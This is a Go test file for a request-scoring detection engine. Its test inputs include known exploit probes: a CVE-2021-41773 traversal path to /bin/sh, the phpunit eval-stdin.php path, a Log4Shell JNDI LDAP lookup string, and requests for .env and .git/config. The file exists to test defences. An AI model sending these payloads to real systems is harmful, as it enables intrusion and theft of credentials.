package aggregator

import (
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/bulwarkhq/bulwark/libs/detect/signatures"
	"github.com/bulwarkhq/bulwark/libs/platform/eventpb"
)

// One request for a known exploit is enough: the IP's score reaches BLOCK
// and the first reason names the signature.
func TestSignatureScores(t *testing.T) {
	f := func(ev *eventpb.RequestEvent, minScore float64, reason string) {
		t.Helper()
		e := NewEngine(testConfig())
		ev.TimeUnixNano = t0.UnixNano()
		ev.ClientIp = "198.51.100.23"
		if ev.Method == "" {
			ev.Method = "GET"
		}
		ev.Protocol = "HTTP/1.1"
		out := e.Process(ev, nil)
		var ip *eventpb.Score
		for _, s := range out {
			if strings.HasPrefix(s.Subject, "ip:") {
				ip = s
			}
		}
		if ip == nil {
			t.Fatalf("%s: no ip score", ev.Path)
		}
		if ip.Score < minScore || (reason != "" && (len(ip.Reasons) == 0 || ip.Reasons[0] != reason)) {
			t.Fatalf("%s: score %.1f reasons %v, want >= %.0f and first %q", ev.Path, ip.Score, ip.Reasons, minScore, reason)
		}
	}
	f(&eventpb.RequestEvent{Path: "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", Status: 400}, 90, "sig=cve-2021-41773")
	f(&eventpb.RequestEvent{Path: "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", Status: 404}, 90, "sig=cve-2017-9841")
	f(&eventpb.RequestEvent{Path: "/", UserAgent: "${jndi:ldap://198.51.100.1/a}", Status: 200}, 90, "sig=jndi-lookup")
	f(&eventpb.RequestEvent{Path: "/.env", Status: 404, UserAgent: chromeUA}, 90, "sig=sensitive-credentials")
	f(&eventpb.RequestEvent{Method: "CONNECT", Path: "example.com:443", Status: 400, UserAgent: chromeUA}, 75, "sig=proxy-connect")
	// A person's page: nothing.
	e := NewEngine(testConfig())
	out := e.Process(&eventpb.RequestEvent{TimeUnixNano: t0.UnixNano(), ClientIp: "198.51.100.24", Method: "GET",
		Path: "/select-size", Query: "q=%22union+jack%22", Protocol: "HTTP/1.1", Status: 200, UserAgent: chromeUA}, nil)
	for _, s := range out {
		if s.Score >= 50 || slices.ContainsFunc(s.Reasons, func(r string) bool { return strings.HasPrefix(r, "sig") }) {
			t.Fatalf("benign page scored: %v", s)
		}
	}
}

// Failing POSTs to any app's login endpoint count as failed logins.
func TestGenericLoginFailures(t *testing.T) {
	e := NewEngine(testConfig())
	var last []*eventpb.Score
	for i := range 20 {
		out := e.Process(&eventpb.RequestEvent{TimeUnixNano: t0.Add(time.Duration(i) * 2 * time.Second).UnixNano(),
			ClientIp: "198.51.100.30", Method: "POST", Path: "/wp-login.php", Protocol: "HTTP/1.1", Status: 200,
			UserAgent: chromeUA}, nil)
		if len(out) > 0 {
			last = out
		}
	}
	for _, s := range last {
		if strings.HasPrefix(s.Subject, "ip:") && s.Features["login_failures_1m"] >= 5 && s.Score >= 90 {
			return
		}
	}
	t.Fatalf("20 failing wp-login POSTs: %v", last)
}

// A reloaded set is in force from the next event; nil turns signatures off.
func TestSignatureReloadAndOff(t *testing.T) {
	h := signatures.NewHolder(signatures.Shipped())
	e := NewEngine(testConfig(), WithSignatures(h))
	ev := func(i int, path string) *eventpb.RequestEvent {
		return &eventpb.RequestEvent{TimeUnixNano: t0.Add(time.Duration(i) * time.Hour * 2).UnixNano(), ClientIp: "198.51.100.40",
			Method: "GET", Path: path, Protocol: "HTTP/1.1", Status: 404, UserAgent: chromeUA}
	}
	if out := e.Process(ev(0, "/.env"), nil); len(out) == 0 || out[0].Score < 90 {
		t.Fatalf("before reload: %v", out)
	}
	if st := e.Stats(); st.SigMatches != 1 {
		t.Fatalf("signature matches %d, want 1", st.SigMatches)
	}
	off := NewEngine(testConfig(), WithSignatures(nil))
	if out := off.Process(ev(0, "/.git/config"), nil); len(out) > 0 && out[0].Features["sig_sensitive_file"] != 0 {
		t.Fatalf("signatures off: %v", out)
	}
}
